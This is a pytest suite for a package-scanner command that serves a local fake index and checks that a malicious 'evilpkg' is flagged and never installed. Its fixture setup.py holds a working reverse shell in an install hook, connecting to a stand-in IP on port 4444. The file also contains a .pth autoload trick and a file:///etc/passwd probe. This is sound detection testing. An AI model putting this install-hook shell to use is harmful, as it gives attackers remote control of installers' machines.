"""fetch-scan against a local index (`python -m http.server` on 127.0.0.1): JSON API, simple API, sha256, no pip."""

from __future__ import annotations

import hashlib
import json
import subprocess
import sys
import time
import urllib.request
from contextlib import contextmanager
from pathlib import Path
from typing import Iterator

import pytest
from click.testing import CliRunner

from datasec_scan import packages
from datasec_scan.archives import build_archive, with_record
from datasec_scan.cli import main

SETUP = b'''import socket
import subprocess
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        s = socket.socket()
        s.connect(("203.0.113.5", 4444))
        os.dup2(s.fileno(), 0)
        os.dup2(s.fileno(), 1)
        subprocess.call(["/bin/sh", "-i"])


setup(name="evilpkg", version="1.1", cmdclass={"install": PostInstall})
'''


def _archives() -> dict[str, bytes]:
    return {
        "evilpkg-1.0.tar.gz": build_archive("evilpkg-1.0.tar.gz", {"evilpkg-1.0/setup.py": b"x = 1\n"}),
        "evilpkg-1.1.tar.gz": build_archive("evilpkg-1.1.tar.gz", {"evilpkg-1.1/setup.py": SETUP,
                                                                   "evilpkg-1.1/setup.cfg": b"[options]\ncmdclass =\n"
                                                                   b"    install = evilpkg._hook:Install\n"}),
        "evilpkg-1.1-py3-none-any.whl": build_archive("evilpkg-1.1-py3-none-any.whl", with_record({
            "evilpkg_boot.pth": b"import evilpkg._boot\n", "evilpkg/__init__.py": b"x = 1\n",
            "evilpkg-1.1.dist-info/WHEEL": b"Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"})),
    }


def _sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def make_index(root: Path, *, json_api: bool = True, simple: bool = True, corrupt: str | None = None) -> None:
    """An index as files: /files/<archive>, /pypi/evilpkg[/VERSION]/json, /simple/evilpkg/index.html."""
    (root / "files").mkdir(parents=True)
    archives = _archives()
    for name, data in archives.items():
        (root / "files" / name).write_bytes(data if name != corrupt else data + b"tampered")
    if json_api:
        for version in ("1.0", "1.1", None):
            chosen = version or "1.1"
            urls = [{"filename": n, "url": f"../../../files/{n}" if version else f"../../files/{n}",
                     "digests": {"sha256": _sha(d)}, "packagetype": "sdist" if n.endswith(".gz") else "bdist_wheel"}
                    for n, d in archives.items() if f"-{chosen}" in n]
            folder = root / "pypi" / "evilpkg" / (version or "")
            folder.mkdir(parents=True, exist_ok=True)
            (folder / "json").write_text(json.dumps({"info": {"name": "evilpkg", "version": chosen}, "urls": urls}))
    if simple:
        links = "".join(f'<a href="../../files/{n}#sha256={_sha(d)}">{n}</a><br>\n' for n, d in archives.items())
        (root / "simple" / "evilpkg").mkdir(parents=True)
        (root / "simple" / "evilpkg" / "index.html").write_text(f"<!DOCTYPE html><html><body>{links}</body></html>")


@contextmanager
def served(root: Path) -> Iterator[str]:
    """`python -m http.server` on 127.0.0.1, a free port, stopped afterwards; yields the simple index URL."""
    proc = subprocess.Popen([sys.executable, "-u", "-m", "http.server", "0", "--bind", "127.0.0.1", "--directory",
                             str(root)], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
    try:
        line = proc.stdout.readline()  # "Serving HTTP on 127.0.0.1 port 43210 (http://127.0.0.1:43210/) ..."
        port = int(line.split(" port ")[1].split()[0])
        base = f"http://127.0.0.1:{port}"
        for _ in range(50):
            try:
                urllib.request.urlopen(base + "/", timeout=2).close()
                break
            except OSError:
                time.sleep(0.1)
        yield base + "/simple"
    finally:
        proc.terminate()
        proc.wait(timeout=10)
        proc.stdout.close()


@pytest.fixture()
def no_pip(monkeypatch: pytest.MonkeyPatch) -> list[list[str]]:
    """Record every process fetch-scan would start; the tests assert none is pip."""
    calls: list[list[str]] = []
    real = subprocess.Popen

    def spy(args, *a, **kw):
        calls.append([str(x) for x in (args if isinstance(args, (list, tuple)) else [args])])
        return real(args, *a, **kw)

    monkeypatch.setattr(subprocess, "Popen", spy)
    return calls


def _fetch_scan(tmp_path: Path, *args: str, env: dict | None = None) -> tuple[int, dict | None, str]:
    out = tmp_path / "report.json"
    result = CliRunner().invoke(main, ["fetch-scan", "--format", "json", "-o", str(out), "--isolated",
                                                       *args], env=env, catch_exceptions=False)
    report = json.loads(out.read_text()) if out.exists() else None
    return result.exit_code, report, result.stderr


def test_json_api_latest_release(tmp_path: Path, no_pip: list[list[str]], monkeypatch: pytest.MonkeyPatch) -> None:
    make_index(tmp_path / "index", simple=False)
    monkeypatch.chdir(tmp_path)
    with served(tmp_path / "index") as index:
        code, report, err = _fetch_scan(tmp_path, "--index-url", index, "evilpkg")
    assert code == 1, err
    verdicts = {p["package"]: p for p in report["packages"]}
    assert set(verdicts) == {"evilpkg-1.1.tar.gz", "evilpkg-1.1-py3-none-any.whl"}
    assert verdicts["evilpkg-1.1.tar.gz"]["by_rule"].get("DS150") == 1
    assert verdicts["evilpkg-1.1-py3-none-any.whl"]["by_rule"].get("DS152") == 1
    paths = {f["path"] for f in report["findings"]}
    assert "evilpkg-1.1.tar.gz!/evilpkg-1.1/setup.cfg" in paths
    if any(f["rule"] == "DS102" for f in report["findings"]):  # the DS1xx pack, where installed
        assert verdicts["evilpkg-1.1.tar.gz"]["verdict"] == "critical"
    assert not any("pip" in " ".join(c) for c in no_pip), no_pip
    assert sorted(p.name for p in tmp_path.iterdir()) == ["index", "report.json"], "downloads are not left behind"


def test_simple_api_pinned_version_and_download_dir(tmp_path: Path, no_pip: list[list[str]]) -> None:
    make_index(tmp_path / "index", json_api=False)
    with served(tmp_path / "index") as index:
        code, report, err = _fetch_scan(tmp_path, "--index-url", index, "--download-dir", str(tmp_path / "dl"),
                                        "evilpkg==1.0")
    assert code == 0, err
    assert [p["package"] for p in report["packages"]] == ["evilpkg-1.0.tar.gz"]
    assert report["packages"][0]["verdict"] == "clean"
    assert sorted(p.name for p in (tmp_path / "dl").iterdir()) == ["evilpkg-1.0.tar.gz"]
    assert not any("pip" in " ".join(c) for c in no_pip), no_pip


def test_pip_index_url_is_honoured(tmp_path: Path) -> None:
    make_index(tmp_path / "index")
    with served(tmp_path / "index") as index:
        code, report, err = _fetch_scan(tmp_path, "--wheels", "none", "evilpkg==1.1",
                                        env={"PIP_INDEX_URL": index})
    assert code == 1, err
    assert [p["package"] for p in report["packages"]] == ["evilpkg-1.1.tar.gz"]


def test_sha256_mismatch_is_an_error(tmp_path: Path) -> None:
    make_index(tmp_path / "index", corrupt="evilpkg-1.1.tar.gz")
    with served(tmp_path / "index") as index:
        code, report, err = _fetch_scan(tmp_path, "--index-url", index, "evilpkg")
    assert code == 2 and report is None
    assert "does not match the published" in err


def test_unknown_project_is_an_error(tmp_path: Path) -> None:
    make_index(tmp_path / "index")
    with served(tmp_path / "index") as index:
        code, _, err = _fetch_scan(tmp_path, "--index-url", index, "nosuchpkg")
    assert code == 2 and "nosuchpkg" in err


def test_pep691_json_simple_answer(monkeypatch: pytest.MonkeyPatch) -> None:
    answers = {
        "http://idx/pypi/demo/json": None,
        "http://idx/simple/demo/": (json.dumps({"files": [
            {"filename": "demo-2.0.tar.gz", "url": "https://files.example.com/demo-2.0.tar.gz",
             "hashes": {"sha256": "ab" * 32}},
            {"filename": "demo-10.0-py3-none-any.whl", "url": "../../f/demo-10.0-py3-none-any.whl", "hashes": {}},
            {"filename": "demo-10.0.tar.gz", "url": "../../f/demo-10.0.tar.gz", "hashes": {"sha256": "cd" * 32}},
        ]}).encode(), "application/vnd.pypi.simple.v1+json"),
    }

    def fake_get(url: str, accept: str = "", **_: object):
        answer = answers[url]
        if answer is None:
            raise packages.PackagesError("HTTP 404")
        return answer

    monkeypatch.setattr(packages, "_get", fake_get)
    version, files = packages.release_files("demo", None, "http://idx/simple")
    assert version == "10.0"
    assert {(f.filename, f.url, f.sha256) for f in files} == {
        ("demo-10.0-py3-none-any.whl", "http://idx/f/demo-10.0-py3-none-any.whl", None),
        ("demo-10.0.tar.gz", "http://idx/f/demo-10.0.tar.gz", "cd" * 32)}


def test_only_http_urls_and_plain_file_names() -> None:
    with pytest.raises(packages.PackagesError):
        packages._get("file:///etc/passwd")
    assert packages._safe_filename("../../etc/x.tar.gz") == "x.tar.gz"
    assert packages._safe_filename("..") is None


def test_pick_files() -> None:
    f = packages.ReleaseFile
    files = [f("d-1.tar.gz", "u", None, "sdist"), f("d-1-cp311-cp311-manylinux_2_17_x86_64.whl", "u", None, "wheel"),
             f("d-1-cp311-cp311-win_amd64.whl", "u", None, "wheel")]
    assert [x.filename for x in packages.pick_files(files, "none")] == ["d-1.tar.gz"]
    assert len(packages.pick_files(files, "all")) == 3
    assert len(packages.pick_files(files, "best")) == 2
    assert [x.filename for x in packages.pick_files(files, "pure")] == ["d-1.tar.gz"]
